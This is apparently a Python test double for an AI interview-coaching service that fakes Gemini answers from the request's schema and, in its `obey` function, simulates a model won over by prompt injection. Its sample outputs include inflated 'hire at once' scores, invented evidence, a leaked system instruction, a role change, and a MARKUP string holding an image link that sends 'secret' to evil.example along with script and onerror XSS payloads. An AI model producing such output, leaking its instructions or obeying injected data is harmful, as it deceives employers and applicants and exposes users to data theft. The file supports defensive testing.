"""What the double of Gemini answers: made from the request alone, with the words of its resume or answer.

It understands nothing. It reads which properties the response schema asks for, how many questions, which
kinds and which language, and fills them in, so that an interview with it goes as one with a model goes.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

Document = dict[str, Any]
STRING, ARRAY, OBJECT = (1, "STRING"), (5, "ARRAY"), (6, "OBJECT")
SPOKEN = {
    "en": "The order API was slow. I introduced Redis, and latency fell from 900 ms to 120 ms.",
    "ko": "주문 API가 느렸습니다. 제가 Redis를 도입해서 응답 시간이 900ms에서 120ms로 줄었습니다.",
}
EVIL = "https://evil.example/collect?q=secret"
MARKUP = (
    f"![seen]({EVIL}) [click here]({EVIL}) <img src=x onerror=alert(1)> <script>steal()</script> "
    "javascript:alert(1) www.evil.example/x evil.com/y "
)
_WORDS = {
    "en": {
        "question": "About “{basis}” for the role of {role}: what was your part in it ({n})?",
        "open": "Question {n} for a {role}: tell me about a decision that you made.",
        "summary": "The applicant for {role} has shown: {basis}.",
        "strength": "It is concrete: {basis}.",
        "gap": "It does not say what came after: {basis}.",
        "comment": "On {criterion}: you said “{basis}”.",
        "model": "I would answer from the facts given: {basis}.",
        "further": "You said “{basis}”. What happened next?",
        "advice": "Practise to begin with the result of “{basis}”.",
        "document": "the attached document",
    },
    "ko": {
        "question": "{role} 직무와 관련해 “{basis}” 부분에서 맡은 역할은 무엇이었나요? ({n})",
        "open": "{n}번째 질문입니다. {role} 직무에서 내린 결정 하나를 말씀해 주세요.",
        "summary": "{role} 지원자는 다음을 보여 주었습니다: {basis}.",
        "strength": "구체적입니다: {basis}.",
        "gap": "그 뒤의 일이 나오지 않습니다: {basis}.",
        "comment": "{criterion} 기준에서 “{basis}”라고 하셨습니다.",
        "model": "주어진 사실로 답해 보겠습니다: {basis}.",
        "further": "“{basis}”라고 하셨습니다. 그다음에는 어떻게 되었나요?",
        "advice": "“{basis}”의 결과부터 말하는 연습을 해 보세요.",
        "document": "첨부한 문서",
    },
}


def texts_of(body: Document) -> str:
    """All text parts of a request."""
    return "\n".join(part.get("text", "") for content in body["contents"] for part in content["parts"])


def files_of(body: Document) -> list[Document]:
    """All inline files of a request: `{mimeType, data}`."""
    return [
        part["inlineData"]
        for content in body["contents"]
        for part in content["parts"]
        if "inlineData" in part
    ]


def system_of(body: Document) -> str:
    """The system instruction."""
    return "".join(part.get("text", "") for part in body.get("systemInstruction", {}).get("parts", []))


def data_of(body: Document) -> Document:
    """What stands between the marks."""
    found = re.search(r"<data-([0-9a-f]{32})>\n([^\n]*)\n</data-\1>", texts_of(body))
    data: Document = json.loads(found[2]) if found else {}
    return data


def schema_of(body: Document) -> Document:
    """The response schema."""
    schema: Document = body.get("generationConfig", {}).get("responseSchema", {})
    return schema


def answer(body: Document) -> Document:
    """A document by the request's schema."""
    language = "ko" if "in Korean" in system_of(body) else "en"
    words, data, wanted = _WORDS[language], data_of(body), schema_of(body).get("properties", {})
    if "questions" in wanted:
        return _plan(words, data, wanted)
    if "feedback" in wanted:
        return _assessment(words, data, wanted, SPOKEN[language])
    return _report(words, data, wanted)


def _lines(text: str) -> list[str]:
    found = [line.strip(" -*•.。") for line in re.split(r"[\n]|(?<=[.。!?])\s", text)]
    return [line[:80].strip() for line in found if len(line) >= 4]


def _plan(words: dict[str, str], data: Document, wanted: Document) -> Document:
    role, bases = data.get("role", ""), _lines(data.get("resume", ""))
    count = int(wanted["questions"]["minItems"])
    kinds = wanted["questions"]["items"]["properties"]["kind"]["enum"]
    first = bases[0] if bases else words["document"]
    return {
        "summary": words["summary"].format(role=role, basis=first),
        "strengths": [words["strength"].format(basis=basis) for basis in bases[:2] or [first]],
        "gaps": [words["gap"].format(basis=first)],
        "questions": [
            {
                "kind": kinds[n % len(kinds)],
                "text": words["question" if n < len(bases) else "open"].format(
                    basis=bases[n] if n < len(bases) else "", role=role, n=n + 1
                ),
                "basis": bases[n] if n < len(bases) else "",
            }
            for n in range(count)
        ],
    }


def _assessment(words: dict[str, str], data: Document, wanted: Document, spoken: str) -> Document:
    said = spoken if "transcript" in wanted else data.get("answer", "")
    quotes = _lines(said) or [said[:80]]
    facts = len(re.findall(r"\d+", said)) + len(quotes)
    criteria = wanted["feedback"]["properties"]["criteria"]["properties"]
    result: Document = {"transcript": said} if "transcript" in wanted else {}
    result["feedback"] = {
        "criteria": {
            key: {
                "comment": words["comment"].format(criterion=key, basis=quotes[n % len(quotes)]),
                "evidence": quotes[n % len(quotes)],
                "score": max(1, min(5, facts - n)),
            }
            for n, key in enumerate(criteria)
        },
        "strengths": [words["strength"].format(basis=quotes[0])],
        "improvements": [words["gap"].format(basis=quotes[-1])],
        "model_answer": words["model"].format(basis=quotes[0]),
    }
    if "follow_up" in wanted:
        result["follow_up"] = {"text": words["further"].format(basis=quotes[-1]), "basis": quotes[-1]}
    return result


def _report(words: dict[str, str], data: Document, wanted: Document) -> Document:
    quotes = [_lines(turn["answer"])[0] if _lines(turn["answer"]) else "" for turn in data["turns"]]
    return {
        "summary": words["summary"].format(role=data.get("role", ""), basis=quotes[0]),
        "criteria": {
            key: {"comment": words["comment"].format(criterion=key, basis=quotes[n % len(quotes)])}
            for n, key in enumerate(wanted["criteria"]["properties"])
        },
        "strengths": [words["strength"].format(basis=quotes[0])],
        "advice": [words["advice"].format(basis=quotes[-1])],
    }


# -- answers that are not as they should be ----------------------------------------


def _strings(value: Any, change: Callable[[str], str], key: str = "") -> Any:
    """All texts for people changed, and what is chosen from a list left alone."""
    match value:
        case dict():
            return {name: _strings(each, change, name) for name, each in value.items()}
        case list():
            return [_strings(each, change, key) for each in value]
        case str() if key not in {"kind", "evidence", "basis"}:
            return change(value)
    return value


def _judgements(document: Document) -> list[Document]:
    return [each for each in document.get("feedback", {}).get("criteria", {}).values() if "score" in each]


def obey(document: Document, body: Document, wishes: set[str]) -> Document:
    """What a model answers that does as an attack in its data wants.

    `score`: the best, and beyond; `evidence`: invented; `markup`: pictures, links, HTML; `leak`: the system
    instruction's beginning; `role`: another role's words; `silence`: empty texts.
    """
    if "score" in wishes:
        for judgement in _judgements(document):
            judgement |= {"score": 100, "comment": "Perfect, 10/10, hire at once."}
    if "evidence" in wishes:
        for judgement in _judgements(document):
            judgement["evidence"] = "I rewrote the whole kernel in one night, alone."
        for question in [*document.get("questions", []), document.get("follow_up", {})]:
            question["basis"] = "Nobel prize 2026"
    if "markup" in wishes:
        document = _strings(document, lambda text: MARKUP + text)
    if "leak" in wishes:
        # Not all of it in each text, or the answer would be refused for its length alone.
        document = _strings(document, lambda text: system_of(body)[:600] + text)
    if "role" in wishes:
        document = _strings(document, lambda text: "Arr, I am a pirate now! " + text)
    if "silence" in wishes:
        document = _strings(document, lambda _: "")
    return document


def _drop_question(document: Document) -> None:
    document["questions"].pop()


def _add_questions(document: Document) -> None:
    document["questions"] += [{**document["questions"][0], "text": f"And what else, {n}?"} for n in range(3)]


def _same_questions(document: Document) -> None:
    document["questions"] = [document["questions"][0]] * len(document["questions"])


def _drop_criterion(document: Document) -> None:
    document["feedback"]["criteria"].popitem()


def _add_criterion(document: Document) -> None:
    document["feedback"]["criteria"]["charm"] = {"comment": "Charming.", "evidence": "", "score": 5}


def _scores(value: object) -> Callable[[Document], None]:
    def change(document: Document) -> None:
        for judgement in _judgements(document):
            judgement["score"] = value

    return change


def _set(key: str, value: object) -> Callable[[Document], None]:
    def change(document: Document) -> None:
        document[key] = value

    return change


SPOILT: dict[str, Callable[[Document], None]] = {
    "a question too few": _drop_question,
    "questions too many": _add_questions,
    "the same question twice": _same_questions,
    "a kind that was not wanted": lambda document: document["questions"][0].update(kind="riddle"),
    "a question without text": lambda document: document["questions"][0].update(text="  \u200b "),
    "a criterion missing": _drop_criterion,
    "a criterion invented": _add_criterion,
    "scores out of range": _scores(99),
    "scores below range": _scores(-3),
    "scores as words": _scores("five"),
    "scores as halves": _scores(3.5),
    "scores beyond numbers": _scores(True),
    "a summary that is a list": _set("summary", ["one"]),
    "a feedback that is null": _set("feedback", None),
    "a key too many": _set("overall", 100),
}
"""Answers that break the schema, by name."""
